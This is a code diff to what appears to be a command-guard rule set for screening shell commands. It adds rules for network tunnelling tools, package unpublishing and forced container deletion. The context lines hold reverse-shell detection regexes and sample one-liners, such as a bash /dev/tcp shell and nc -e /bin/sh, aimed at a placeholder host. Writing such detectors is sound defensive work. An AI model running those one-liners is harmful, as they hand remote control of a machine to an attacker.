@@ -81,10 +81,22 @@ OUTWARD: tuple[Rule, ...] = (
             On(programs=("nc", "ncat", "netcat"), arguments=r"(?:^| )-\w*[ec]\w* |--(?:sh-)?exec"),
             On(programs=("nc", "ncat", "netcat", "socat", "telnet", "openssl"), fed=tuple(sorted(SHELLS))),
             On(programs=("socat",), arguments=r"(?i)(?:exec|system):"),
-            On(text=r"(?:fsockopen|IO::Socket|TCPSocket|net\.(?:connect|Socket)|getprotobyname)[\s\S]{0,2000}(?:exec|spawn|system)\b"),
+            On(text=r"(?:fsockopen|IO::Socket|TCPSocket|net\.(?:connect|Socket)|getprotobyname)[\s\S]{0,2000}(?:exec|spawn|system|popen)\b"),
         ),
         matches=("bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "nc -e /bin/sh 192.0.2.1 9", "sh -i | nc 192.0.2.1 9", "socat TCP:192.0.2.1:9 EXEC:sh"),
         passes=("nc -z localhost 80", "cat /dev/null", "python: import socket\nsocket.socket().connect(('localhost', 80))", "echo /dev/tcp/x"),
+    ),
+    Rule(
+        name="expose",
+        level="ask",
+        reason="it opens a way from the network to this machine",
+        when=(
+            On(programs=("ngrok", "cloudflared", "localtunnel", "lt", "bore", "frpc", "chisel", "tailscale")),
+            On(programs=("ssh",), arguments=r"(?:^| )-\w*R"),
+            On(programs=("python",), arguments=r"^-m http\.server .*(?:-d|--directory)[= ](?:/|~)"),
+        ),
+        matches=("ngrok http 80", "ssh -R 80:localhost:80 x", "python3 -m http.server --directory /"),
+        passes=("python3 -m http.server", "ssh -V", "ssh x ls", "echo ngrok"),
     ),
     Rule(
         name="git-force-push",
@@ -121,7 +133,7 @@ OUTWARD: tuple[Rule, ...] = (
         when=(
             On(
                 programs=("npm", "yarn", "pnpm", "cargo", "uv", "poetry", "hatch", "flit", "pdm"),
-                arguments=r"^(?:npm )?publish\b",
+                arguments=r"^(?:npm )?(?:publish|unpublish|yank|deprecate)\b",
                 unless=r"--dry-run|-n\b",
             ),
             On(programs=("twine",), arguments=r"^upload\b"),
@@ -150,6 +162,7 @@ OUTWARD: tuple[Rule, ...] = (
             ),
             On(programs=("redis-cli",), arguments=r"(?i)\bflush(?:all|db)\b"),
             On(programs=("dropdb", "mysqladmin")),
+            On(programs=("docker", "podman"), arguments=r"^(?:container )?rm .*-\w*f|\bprune\b|^volume rm|^compose down .*-v"),
         ),
         matches=("terraform destroy", "kubectl delete ns x", "aws s3 rb s3://x --force", "psql -c 'DROP DATABASE x'", "redis-cli FLUSHALL"),
         passes=("terraform plan", "kubectl get pods", "aws s3 ls", "psql -c 'SELECT 1'", "echo kubectl delete"),
